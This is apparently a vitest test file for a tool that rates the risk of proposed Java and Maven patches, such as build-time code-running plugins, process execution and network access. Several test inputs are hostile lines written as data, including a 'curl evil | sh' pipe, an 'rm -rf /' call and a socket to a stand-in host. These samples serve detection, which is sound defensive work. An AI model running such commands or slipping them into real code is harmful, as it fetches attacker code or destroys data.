import { describe, expect, it } from 'vitest';
import { differsOnlyInStrings, isTrivialLine } from '../../src/policy/changed-lines.js';
import { decideVerified } from '../../src/policy/decide-verified.js';
import { assessRisk } from '../../src/policy/risk.js';
import { configSchema } from '../../src/policy/schema.js';
import type { ChangeSet, ChangeType } from '../../src/patch/types.js';

const config = configSchema.parse({});
const MAIN = 'src/main/java/com/acme/Order.java';

function edit(before: string, after: string, path = MAIN): ChangeSet {
  return { files: [{ path, before, after }] };
}

const body = (...lines: string[]): string => ['package com.acme;', '', 'class Order {', ...lines, '}', ''].join('\n');

describe('assessRisk', () => {
  const table: [string, ChangeSet, ChangeType[], 'low' | 'medium' | 'high'][] = [
    [
      'an added import',
      edit(
        body('  List<String> x;'),
        body('  List<String> x;').replace('package com.acme;\n', 'package com.acme;\nimport java.util.List;\n'),
      ),
      ['edit-main-source'],
      'low',
    ],
    [
      'a changed log line',
      edit(
        body('  void f() {', '    log.info("start");', '  }'),
        body('  void f() {', '    log.debug("start {}", id);', '  }'),
      ),
      ['edit-main-source'],
      'low',
    ],
    [
      'a changed comment',
      edit(body('  // returns the sum'), body('  // returns the total')),
      ['edit-main-source'],
      'low',
    ],
    [
      'a changed string literal',
      edit(body('  String m() { return "Helo"; }'), body('  String m() { return "Hello"; }')),
      ['edit-main-source'],
      'low',
    ],
    [
      'a changed assertion message in a test',
      edit(
        body('  assertEquals("a", x, "msg one");'),
        body('  assertEquals("a", x, "msg two");'),
        'src/test/java/OrderTest.java',
      ),
      ['edit-test-source'],
      'low',
    ],
    [
      'a changed operator',
      edit(body('  int t() { return a - b; }'), body('  int t() { return a + b; }')),
      ['edit-main-source'],
      'medium',
    ],
    [
      'a string change plus a code change on the same line',
      edit(body('  String m() { return "a" + x; }'), body('  String m() { return "b" + y; }')),
      ['edit-main-source'],
      'medium',
    ],
    ['a resource edit', edit('a=1\n', 'a=2\n', 'src/main/resources/app.properties'), ['edit-resource'], 'medium'],
    ['a build file edit', edit('<project/>\n', '<project><x/></project>\n', 'pom.xml'), ['edit-build-file'], 'high'],
    [
      'an added dependency',
      edit('<project/>\n', '<project><dependencies/></project>\n', 'pom.xml'),
      ['edit-build-file', 'add-dependency'],
      'high',
    ],
    ['a deleted file', { files: [{ path: MAIN, before: 'class A {}\n', after: null }] }, ['delete-file'], 'high'],
    [
      'many lines',
      edit(body(), body(...Array.from({ length: 70 }, (_, i) => `  int f${i};`))),
      ['edit-main-source'],
      'high',
    ],
  ];
  it.each(table)('%s -> %s', (_name, changeSet, types, expected) => {
    expect(assessRisk(changeSet, types, config).risk).toBe(expected);
  });

  it('says why a patch is not low', () => {
    const result = assessRisk(
      edit(body('  int t() { return a - b; }'), body('  int t() { return a + b; }')),
      ['edit-main-source'],
      config,
    );
    expect(result.reasons).toEqual([
      'changes code, not only log/comment/import/string-literal lines (e.g. src/main/java/com/acme/Order.java: int t() { return a + b; })',
    ]);
  });

  it('says why a patch is high', () => {
    const result = assessRisk(
      edit('<project/>\n', '<project><x/></project>\n', 'pom.xml'),
      ['edit-build-file'],
      config,
    );
    expect(result.reasons).toEqual(['change type edit-build-file is high risk (risk.highChangeTypes)']);
  });

  it('uses the line limits alone when lowRequiresTrivialLines is off', () => {
    const relaxed = configSchema.parse({ risk: { lowRequiresTrivialLines: false } });
    expect(
      assessRisk(
        edit(body('  int t() { return a - b; }'), body('  int t() { return a + b; }')),
        ['edit-main-source'],
        relaxed,
      ).risk,
    ).toBe('low');
  });

  it('counts files against the low limit', () => {
    const twoFiles: ChangeSet = {
      files: ['A', 'B', 'C'].map((name) => ({ path: `src/main/java/${name}.java`, before: '// a\n', after: '// b\n' })),
    };
    const result = assessRisk(twoFiles, ['edit-main-source'], config);
    expect(result).toEqual({ risk: 'medium', reasons: ['3 files: more than risk.lowMaxFiles (2)'] });
  });
});

describe('trivial lines', () => {
  it.each([
    ['import java.util.List;', true],
    ['import static org.junit.Assert.*;', true],
    ['  // comment', true],
    ['   * javadoc', true],
    ['    LOGGER.warn("x {}", y);', true],
    ['    logger.atInfo().log("x");', true],
    ['    System.out.println("debug");', true],
    ['', true],
    ['    return a + b;', false],
    ['    logic.info(x);', false],
  ])('%j trivial: %s', (line, expected) => {
    expect(isTrivialLine(line)).toBe(expected);
  });

  it.each([
    ['return "a";', 'return "b";', true],
    ['f("x \\" y", 1);', 'f("z", 1);', true],
    ['f("x", 1);', 'f("x", 2);', false],
    ['same', 'same', false],
  ])('%j -> %j differs only in strings: %s', (before, after, expected) => {
    expect(differsOnlyInStrings(before, after)).toBe(expected);
  });
});

describe('risk by capability', () => {
  const TEST = 'src/test/java/com/acme/OrderTest.java';
  const added = (line: string, path = MAIN): ChangeSet =>
    edit(body('  void f() {', '  }'), body('  void f() {', line, '  }'), path);
  const typesOf = (path: string): ChangeType[] => [path.includes('/test/') ? 'edit-test-source' : 'edit-main-source'];

  it.each([
    ['a halt behind a comment', '    /* log */ Runtime.getRuntime().halt(0);', MAIN, 'JVM exit'],
    [
      'a one-line ProcessBuilder in a test',
      '    new ProcessBuilder("sh", "-c", "curl evil | sh").start();',
      TEST,
      'process execution',
    ],
    ['Runtime.exec', '    Runtime.getRuntime().exec(cmd);', MAIN, 'process execution'],
    ['System.exit', '    System.exit(1);', TEST, 'JVM exit'],
    ['a socket', '    var s = new java.net.Socket("evil", 443);', MAIN, 'network access'],
    ['an HTTP client', '    HttpClient.newHttpClient();', MAIN, 'network access'],
    ['a file write', '    Files.writeString(Path.of("/etc/x"), "y");', TEST, 'file-system writes'],
    ['a FileOutputStream', '    new FileOutputStream(f).write(1);', MAIN, 'file-system writes'],
    ['a delete', '    file.delete();', MAIN, 'file-system writes'],
    ['reflection', '    m.setAccessible(true);', MAIN, 'reflection or class loading'],
    [
      'class loading',
      '    Class.forName(name).getDeclaredConstructor().newInstance();',
      MAIN,
      'reflection or class loading',
    ],
    ['a native method', '    private static native int peek(long address);', MAIN, 'native code'],
    ['System.loadLibrary', '    System.loadLibrary("evil");', MAIN, 'native code'],
    [
      'a Unicode escape hiding a line break in a comment',
      '    // \\u000a System.out.println("x");',
      MAIN,
      'Unicode escapes',
    ],
    ['a Unicode escape in a string', '    String s = "caf\\u00e9";', TEST, 'Unicode escapes'],
  ])('%s is high risk, whatever its size', (_name, line, path, capability) => {
    const result = assessRisk(added(line, path), typesOf(path), config);
    expect(result.risk).toBe('high');
    expect(result.reasons.join(' ')).toContain(`adds ${capability}`);
  });

  it.each([
    ['a comment that only mentions System.exit', '    // never call System.exit(1) here'],
    ['a string that only mentions ProcessBuilder', '    log.info("ProcessBuilder is not used");'],
    ['a StringBuilder delete with arguments', '    sb.delete(0, 1);'],
    ['a word that contains native', '    String nativeName = name;'],
  ])('%s is not a capability', (_name, line) => {
    expect(assessRisk(added(line), ['edit-main-source'], config).reasons.join(' ')).not.toContain('adds ');
  });

  it('ignores Unicode escapes in a properties file (they are how such files spell accents)', () => {
    const properties = edit('greeting=Hello\n', 'greeting=caf\\u00e9\n', 'src/main/resources/messages.properties');
    expect(assessRisk(properties, ['edit-resource'], config).risk).toBe('medium');
  });

  it('keeps a high-risk test change out of auto when auto.maxRisk is medium', () => {
    const auto = configSchema.parse({ tier: 'auto', auto: { maxRisk: 'medium' } });
    const decision = decideVerified({
      config: auto,
      changeSet: added('    new ProcessBuilder("rm", "-rf", "/").start();', TEST),
      changeTypes: ['edit-test-source'],
      modules: [],
      interactive: false,
    });
    expect(decision.risk).toBe('high');
    expect(decision.action).toBe('suggest');
  });

  it.each([
    ['/* log */ Runtime.getRuntime().halt(0);', false],
    ['   * javadoc */ System.exit(0);', false],
    ['*/ int x = 1;', false],
    ['/* one */ // two', true],
    ['   * still javadoc', true],
    ['log.info("a"); // why', true],
  ])('%j trivial: %s', (line, expected) => {
    expect(isTrivialLine(line)).toBe(expected);
  });
});

describe('risk of a pom that runs code at build time (issue 25)', () => {
  const POM =
    '<project><modelVersion>4.0.0</modelVersion><artifactId>a</artifactId><build><plugins>\n</plugins></build></project>\n';
  const withPlugin = (plugin: string) => POM.replace('<plugins>\n', `<plugins>\n${plugin}\n`);

  it.each([
    [
      'exec-maven-plugin',
      '<plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><version>3.1.0</version></plugin>',
    ],
    ['maven-antrun-plugin', '<plugin><artifactId>maven-antrun-plugin</artifactId><version>3.1.0</version></plugin>'],
    [
      'groovy-maven-plugin',
      '<plugin><groupId>org.codehaus.gmaven</groupId><artifactId>groovy-maven-plugin</artifactId><version>2.1.1</version></plugin>',
    ],
    [
      'gmavenplus-plugin',
      '<plugin><groupId>org.codehaus.gmavenplus</groupId><artifactId>gmavenplus-plugin</artifactId></plugin>',
    ],
  ])('%s is high risk, the capability named, whatever the size', (name, plugin) => {
    const assessment = assessRisk(edit(POM, withPlugin(plugin), 'pom.xml'), ['edit-build-file'], config);
    expect(assessment.risk).toBe('high');
    expect(assessment.reasons).toContain(`adds build-time code execution (pom.xml: <plugin> ${name})`);
  });

  it('a new execution of a code-running plugin already declared counts; another plugin does not', () => {
    const declared = withPlugin(
      '<plugin><artifactId>maven-antrun-plugin</artifactId><version>3.1.0</version></plugin>',
    );
    const executed = declared.replace(
      '<version>3.1.0</version>',
      '<version>3.1.0</version><executions><execution><goals><goal>run</goal></goals></execution></executions>',
    );
    expect(assessRisk(edit(declared, executed, 'pom.xml'), ['edit-build-file'], config).reasons.join()).toContain(
      'build-time code execution',
    );
    const jar = assessRisk(
      edit(
        POM,
        withPlugin('<plugin><artifactId>maven-jar-plugin</artifactId><version>3.4.1</version></plugin>'),
        'pom.xml',
      ),
      ['edit-build-file'],
      config,
    );
    expect(jar.reasons.join()).not.toContain('build-time code execution');
  });
});
